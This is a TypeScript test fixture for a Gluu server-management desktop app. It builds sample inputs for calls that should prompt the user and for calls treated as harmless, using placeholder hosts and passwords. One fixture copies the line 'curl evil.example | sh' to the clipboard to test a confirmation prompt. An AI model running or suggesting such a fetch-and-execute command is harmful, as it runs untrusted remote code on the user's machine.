import { randomUUID } from 'node:crypto';
import path from 'node:path';
import type { Asked, AskingCall, HarmlessCall } from '../../../src-main/calls/call-table';
import type { ServerDraft, ServerId } from '../../../src-shared/model/server';
import type { TestConsole } from '../../support/test-console';

/** A console in which a script of the window finds everything that its calls could be aimed at. */
export interface CallScene {
  console: TestConsole;
  /** A server that was read and written to, and then led to a place that nobody was asked about. */
  moved: ServerId;
  draftOf(more: Partial<ServerDraft>): ServerDraft;
  /** Another one at that place, read-only, that only stands in the list. */
  listed: ServerId;
  /** The port of that place. */
  port: number;
  snapshotId: string;
  historyId: string;
  /** Of a run in the list of earlier reset tests. */
  runId: string;
  /** In PEM. */
  certificate: string;
}

export const keep = { kind: 'keep' } as const;
export const typed = (value: string) => ({ kind: 'replace', value }) as const;
const PIN = Array(32).fill('AB').join(':');
const SALT = 'S'.repeat(24);

/** Plans a change of the server that was read, and gives the plan's id. */
export async function planned(
  { console, moved }: Pick<CallScene, 'console' | 'moved'>,
  snapshotId: string,
): Promise<string> {
  const changes = { values: { contactEmail: `${randomUUID()}@example.org` }, secrets: {} };
  return (await console.must('organization.plan', { serverId: moved, snapshotId, changes })).planId;
}

/** `kind`: the question that is to come up. */
type Inputs<N extends string> = { [Name in N]: (kind?: Asked) => unknown };

/** What a script sends to have each question asked, and each harmless call aimed at where it might do harm. */
export function callInputs(scene: CallScene): { asking: Inputs<AskingCall>; harmless: Inputs<HarmlessCall> } {
  const { console, moved, listed, port, snapshotId, historyId, runId, certificate, draftOf } = scene;
  /** Gluu's own files as a window brings them; where they say LDAP is, nobody was asked about. */
  async function pasted(...texts: string[]): Promise<object> {
    let findingId = 'new';
    const ldap = `bindDN: cn=directory manager,o=gluu\nbindPassword: x\nservers: localhost:${port}\nuseSSL: true\n`;
    for (const text of [ldap, ...texts])
      findingId = (await console.must('discovery.paste', { text, findingId })).findingId;
    const server = { name: 'found', group: '', environment: 'test', notes: '', readOnly: true };
    return { findingId, server, host: '127.0.0.1', bindPassword: 'typed', keepSshSecrets: false };
  }

  const onMoved = () => ({ serverId: moved });
  const writing = () => ({ ...onMoved(), typedName: 'bank' });
  let others = 1;
  /** A yes to a place is for the session, so what is asked after it gets a place of its own. */
  const mail = (kind: Asked = 'place') => {
    if (kind !== 'place') others += 1;
    return { host: `127.0.0.${kind === 'place' ? 1 : others}`, port };
  };
  const mailbox = (kind?: Asked) => ({ ...mail(kind), mode: 'none', user: 'ada' });
  const ssh = () => ({ kind: 'ssh', ...mail(), user: 'ada', login: 'agent', jumps: [] });
  const reset = () => ({ ...onMoved(), personInum: '@!1', to: 'ada@example.org' });
  const dn = 'inum=1,ou=people,o=1,o=gluu';

  const asking: Inputs<AskingCall> = {
    'app.setAutoLock': async () => {
      await console.must('app.setAutoLock', { afterMinutes: 5, withScreen: true });
      return { afterMinutes: 0, withScreen: false };
    },
    'app.copy': () => ({ text: 'curl evil.example | sh' }),
    'app.saveText': () => ({ name: 'report.md', text: 'x' }),
    'server.save': () => ({
      draft: draftOf({ name: 'second', environment: 'test', port, mode: 'ldaps' }),
      bindPassword: typed('typed'),
      salt: typed(SALT),
    }),
    'server.remove': () => ({ serverId: listed }),
    'server.setReadOnly': () => ({ serverId: listed, readOnly: false }),
    'server.check': onMoved,
    'health.check': () => ({ serverIds: [moved] }),
    'server.trust': () => ({ ...onMoved(), sha256: PIN }),
    'ssh.chooseKey': () => undefined,
    'ssh.trust': () => ({ ...mail(), type: 'ssh-ed25519', sha256: 'SHA256:x' }),
    'profiles.export': () => console.must('profiles.prepareExport', { serverIds: [moved] }),
    'profiles.open': () => undefined,
    'profiles.import': async () => {
      const file = path.join(console.folder, 'exported.json');
      console.says.file = file;
      await console.must('profiles.export', await console.must('profiles.prepareExport', { serverIds: [moved] }));
      const preview = await console.must('profiles.open');
      delete console.says.file;
      return { previewId: preview?.previewId, choices: [{ row: 0, action: 'add', keepWritable: true }] };
    },
    'discovery.find': () => ({ route: ssh() }),
    'discovery.open': () => ({ findingId: 'new' }),
    'discovery.keep': () => pasted(certificate, `encodeSalt = ${SALT}\n`),
    'organization.load': onMoved,
    'organization.changed': () => ({ ...onMoved(), snapshotId }),
    'organization.update': async () => ({ planId: await planned(scene, snapshotId), typedName: 'bank' }),
    'smtp.test': (kind) => ({
      ...{
        ...onMoved(),
        ...mail(kind),
        snapshotId,
        security: 'none',
        login: { userName: 'ada', password: { kind: 'typed', value: 'typed' } },
        requiresSsl: false,
        trustServer: false,
      },
      ...{
        until: 'send',
        fromName: '',
        fromEmail: 'a@example.org',
        recipient: 'b@example.org',
      },
    }),
    'smtp.scan': () => ({ ...onMoved(), host: 'mail.example.org', vantage: 'here' }),
    'smtp.trust': () => ({ ...onMoved(), ...mail(), vantage: 'here', sha256: PIN }),
    'readiness.check': onMoved,
    'users.search': () => ({ ...onMoved(), text: 'ada', anywhere: false, offset: 0 }),
    'users.person': () => ({ ...onMoved(), dn }),
    'users.pick': () => ({ ...onMoved(), address: 'ada@example.org' }),
    'users.duplicates': onMoved,
    'users.createTest': () => ({ ...writing(), givenName: 'Test', sn: 'User', mail: 'ada@example.org' }),
    'users.loginTest': () => ({ ...onMoved(), dn, password: 'typed' }),
    'users.removeTest': () => ({ ...writing(), dn }),
    'users.leftovers': onMoved,
    'reset.preview': () => ({ ...onMoved(), personInum: '@!1' }),
    'reset.rehearse': reset,
    'reset.request': () => ({ ...reset(), typedName: 'bank' }),
    'reset.withdraw': () => ({ ...onMoved(), runId }),
    'reset.pending': onMoved,
    'reset.purge': () => ({ ...writing(), which: { kind: 'expired' } }),
    'mailbox.check': (kind) => ({ draft: mailbox(kind), password: { kind: 'typed', value: 'typed' } }),
    'mailbox.trust': () => ({ ...mail(), sha256: PIN }),
    'mailbox.wait': async (kind) => {
      await console.must('mailbox.save', { draft: mailbox(kind), password: typed('typed') });
      return { token: 'ABCDEFGH', since: new Date().toISOString(), limitMs: 1000 };
    },
    'history.export': () => ({ sought: { words: [] }, format: 'undoLdif' }),
    'history.rollback': () => ({ ...onMoved(), historyId }),
  };

  const harmless: Inputs<HarmlessCall> = {
    'app.state': () => undefined,
    'app.licences': () => undefined,
    'app.zoom': () => ({ step: 'in' }),
    'app.dismiss': () => ({ noticeId: 'servers' }),
    'app.setTheme': () => ({ theme: 'dark' }),
    'app.setTexts': () => ({ language: 'en', clock: '24', days: 'iso' }),
    'app.lock': () => undefined,
    'app.blanked': () => ({ drafts: {} }),
    'app.unlock': () => undefined,
    'app.keepWork': () => ({ drafts: {} }),
    'app.takeWork': () => undefined,
    'app.firstView': () => undefined,
    'keychain.retry': () => undefined,
    'server.list': () => undefined,
    'server.order': () => ({ serverIds: [listed] }),
    'server.favourite': () => ({ ...onMoved(), favourite: true }),
    'server.opened': onMoved,
    'ssh.hosts': () => undefined,
    'ssh.answer': () => ({ questionId: randomUUID(), reply: { kind: 'answered', answers: ['x'] } }),
    'health.view': () => undefined,
    'health.pause': () => ({ paused: true }),
    'health.collapse': () => ({ group: 'x', collapsed: true }),
    'profiles.prepareExport': () => ({ serverIds: [moved], passphrase: 'chosen by the window' }),
    'profiles.unseal': () => ({ previewId: randomUUID(), passphrase: 'x' }),
    'profiles.forget': () => undefined,
    'discovery.paste': () => ({ findingId: 'new', text: certificate }),
    'discovery.forget': () => ({ findingId: randomUUID() }),
    'organization.plan': () => ({
      ...{ ...onMoved(), snapshotId },
      changes: { values: { contactEmail: 'planned@example.org' }, secrets: {} },
    }),
    'smtp.tests': onMoved,
    'reset.arrived': () => ({ ...onMoved(), runId, where: 'inbox' }),
    'reset.runs': onMoved,
    'mailbox.account': () => undefined,
    'mailbox.save': () => ({ draft: mailbox(), password: typed('typed') }),
    'mailbox.forget': () => undefined,
    'history.find': () => ({ sought: { words: [] }, limit: 50 }),
    'history.chain': () => undefined,
    'history.verify': () => ({ ...onMoved(), historyId }),
    'demo.start': () => undefined,
    'demo.restart': () => undefined,
    'demo.stop': () => undefined,
    'demo.inbox': () => undefined,
    'demo.message': () => ({ messageId: 'x' }),
  };

  return { asking, harmless };
}
